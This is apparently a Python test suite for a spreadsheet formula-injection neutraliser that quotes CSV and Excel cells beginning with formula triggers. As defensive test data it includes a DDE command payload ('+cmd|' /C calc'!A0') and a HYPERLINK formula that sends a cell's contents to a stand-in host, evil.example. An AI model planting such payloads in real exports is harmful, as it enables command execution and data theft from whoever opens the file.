"""partcd.platform.exports: the one formula-injection neutraliser (OWASP CSV Injection) and the writers that use it
(frames.write_table for CSV, xlsx_row for Excel)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pyarrow as pa
from hypothesis import given, settings
from hypothesis import strategies as st

from partcd.platform.exports import FORMULA_TRIGGERS, safe_cell, safe_row, safe_table, xlsx_row
from partcd.platform.frames import write_table


def test_texts_starting_with_a_trigger_get_a_leading_quote() -> None:
    for text in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "+", "=", "-inf"):
        assert safe_cell(text) == "'" + text, text
    for text in ("Mary Ann", "H1234", "", " =1", "'=already quoted", "1-2", "a=b"):
        assert safe_cell(text) == text, text


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(0) == 0
    for text in ("-5", "+5", "-2.50", "-.5", "+1e3", "-2E-3", "3."):  # numeric texts cannot be formulas
        assert safe_cell(text) == text
    assert safe_cell(None) is None and safe_cell(True) is True
    assert safe_cell(dt.date(2021, 3, 1)) == dt.date(2021, 3, 1)
    assert safe_row({"name": "=x", "n": -1}) == {"name": "'=x", "n": -1}


@settings(deadline=None)  # the first call loads Arrow's compute kernels
@given(st.lists(st.one_of(st.none(), st.text(alphabet=st.sampled_from("=+-@\t\r0123456789.eE ax'"), max_size=6)),
                max_size=20))
def test_arrow_and_python_neutralise_alike(values: list[str | None]) -> None:
    table = pa.table({"text": pa.array(values, pa.string()), "dict": pa.array(values, pa.string()).dictionary_encode(),
                      "n": pa.array(range(len(values)), pa.int64())})
    out = safe_table(table)
    expected = [safe_cell(v) for v in values]
    assert out.column("text").to_pylist() == expected
    assert out.column("dict").to_pylist() == expected
    assert out.column("n").to_pylist() == list(range(len(values)))
    for v in expected:  # nothing a spreadsheet runs is left
        assert v is None or not v.startswith(FORMULA_TRIGGERS) or safe_cell(v) == v


def test_write_table_csv_is_formula_safe(tmp_path: Path) -> None:
    table = pa.table({"contract_id": ["H1234", "=cmd"], "note": ["@x", None], "delta": [-3, 4]})
    write_table(table, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows == [{"contract_id": "H1234", "note": "'@x", "delta": "-3"}, {"contract_id": "'=cmd", "note": "", "delta": "4"}]
    write_table(table, tmp_path / "out.parquet")  # data interchange, not a spreadsheet: values kept as they are
    assert pa.parquet.read_table(tmp_path / "out.parquet").column("contract_id").to_pylist() == ["H1234", "=cmd"]


def test_xlsx_rows_are_strings_and_numbers_never_formulas(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    xlsx_row(wb.active, ["name", "delta", "text"])
    xlsx_row(wb.active, ['=HYPERLINK("http://evil.example/?d="&C2,"x")', -5, "-5"])
    wb.save(tmp_path / "x.xlsx")
    name, delta, text = load_workbook(tmp_path / "x.xlsx").active[2]
    assert (name.data_type, name.value) == ("s", '\'=HYPERLINK("http://evil.example/?d="&C2,"x")')
    assert (delta.data_type, delta.value) == ("n", -5)
    assert (text.data_type, text.value) == ("s", "-5")
